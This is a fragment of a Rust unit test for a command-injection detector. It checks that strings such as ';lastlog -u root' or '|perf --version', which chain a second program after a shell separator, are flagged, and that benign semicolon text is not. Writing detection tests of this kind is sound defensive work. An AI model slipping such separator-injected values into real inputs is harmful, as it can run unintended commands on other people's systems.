    fn any_program_with_options_after_a_separator() {
        for a in [
            ";rmt --version",
            ";lastlog -u root",
            "time; ansible all -m ping",
            "|perf --version",
        ] {
            assert_eq!(
                rce(a).map(|v| v.1),
                Some("program with options after shell separator"),
                "{a:?}"
            );
        }
        for b in [
            "hello; see -- below",
            "size; 10 -5",
            "a; b",
            "x;Foo -bar",
            "item; foo bar baz -",
        ] {
            assert!(
                !program_with_options(b.split_once(';').map_or(b, |x| x.1).trim_start()),
                "{b:?}"
            );
        }
    }
}
